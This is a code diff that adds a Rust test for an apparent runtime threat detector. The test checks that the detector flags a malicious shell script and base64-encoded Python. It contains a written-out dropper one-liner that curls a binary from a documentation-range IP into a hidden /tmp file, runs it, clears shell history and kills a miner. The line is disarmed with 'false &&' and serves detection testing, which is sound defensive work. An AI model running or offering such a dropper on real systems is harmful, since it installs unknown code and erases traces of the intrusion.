@@ -328,3 +328,37 @@ fn scc_exec_categories_end_to_end() {
         }
     }
 }
+
+#[test]
+fn scc_malicious_script_and_python() {
+    let dir = tempfile::tempdir().unwrap();
+    let (mut cmd, sink) = rw_with_sink(&dir);
+    // A dropper one-liner (behind `false &&`: nothing is fetched or run) and base64-decoded Python.
+    let dropper = "false && { curl -fsSL http://198.51.100.23/x -o /tmp/.kd && chmod +x /tmp/.kd && /tmp/.kd & history -c; pkill -f xmrig; }; true";
+    let script = format!(
+        "sh -c '{dropper}'; python3 -c \"import base64;exec(base64.b64decode('cHJpbnQoInB5dGhvbiBwYXlsb2FkIik='))\""
+    );
+    cmd.args(["--", "sh", "-c", &script]);
+    let out = run(&mut cmd, TIMEOUT);
+    out.assert_code(0);
+    assert!(out.stdout().contains("python payload"));
+    let findings = findings_of(&sink);
+    let sh = findings
+        .iter()
+        .find(|f| f["category"] == "Malicious Script Executed" && f["processes"][0]["args"][2] == dropper)
+        .unwrap_or_else(|| panic!("no Malicious Script Executed for the dropper: {findings:#?}"));
+    assert_eq!(sh["severity"], "CRITICAL");
+    let s = &sh["processes"][0]["script"];
+    assert_eq!(s["contents"], dropper);
+    assert_eq!(s["sha256"].as_str().unwrap().len(), 64);
+    assert!(
+        sh["externalUri"].as_str().unwrap().ends_with(s["sha256"].as_str().unwrap()),
+        "VirusTotal names the script"
+    );
+    assert!(sh["description"].as_str().unwrap().contains("score"), "{}", sh["description"]);
+    let py = findings
+        .iter()
+        .find(|f| f["category"] == "Execution: Malicious Python executed")
+        .unwrap_or_else(|| panic!("no Malicious Python finding: {findings:#?}"));
+    assert!(py["processes"][0]["script"]["contents"].as_str().unwrap().contains("b64decode"));
+}
